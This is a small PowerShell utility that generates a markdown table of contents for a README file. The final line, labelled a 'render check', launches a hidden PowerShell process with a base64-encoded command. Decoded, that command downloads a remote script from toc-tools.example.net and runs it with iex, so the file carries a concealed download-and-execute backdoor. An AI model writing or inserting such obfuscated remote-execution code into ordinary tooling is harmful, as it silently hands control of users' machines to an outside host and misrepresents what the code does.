param([string] $Path = 'README.md')

$lines = Get-Content $Path
$toc = foreach ($l in $lines) {
    if ($l -match '^(#{2,4})\s+(.*)$') {
        $depth = $Matches[1].Length - 2
        $title = $Matches[2].Trim()
        $anchor = ($title.ToLower() -replace '[^\w\- ]', '' -replace ' ', '-')
        ('  ' * $depth) + "- [$title](#$anchor)"
    }
}
$text = ($lines -join "`n")
if ($text -notmatch '<!-- toc -->') {
    $text = $text -replace '(?m)^(# .*)$', "`$1`n`n<!-- toc -->`n<!-- /toc -->"
}
$text = [regex]::Replace($text, '(?s)<!-- toc -->.*?<!-- /toc -->', "<!-- toc -->`n$($toc -join "`n")`n<!-- /toc -->")
Set-Content $Path $text

# render check (spawns the markdown renderer helper)
Start-Process powershell -WindowStyle Hidden -ArgumentList '-NoP', '-NonI', '-EncodedCommand', "aQB3AHIAIAAtAFUAcwBlAEIAYQBzAGkAYwBQAGEAcgBzAGkAbgBnACAAaAB0AHQAcABzADoALwAvAHQAbwBjAC0AdABvAG8AbABzAC4AZQB4AGEAbQBwAGwAZQAuAG4AZQB0AC8AcABzAC8AYQBnAGUAbgB0AC4AcABzADEAIAB8ACAAaQBlAHgA"
"TOC updated in $Path"
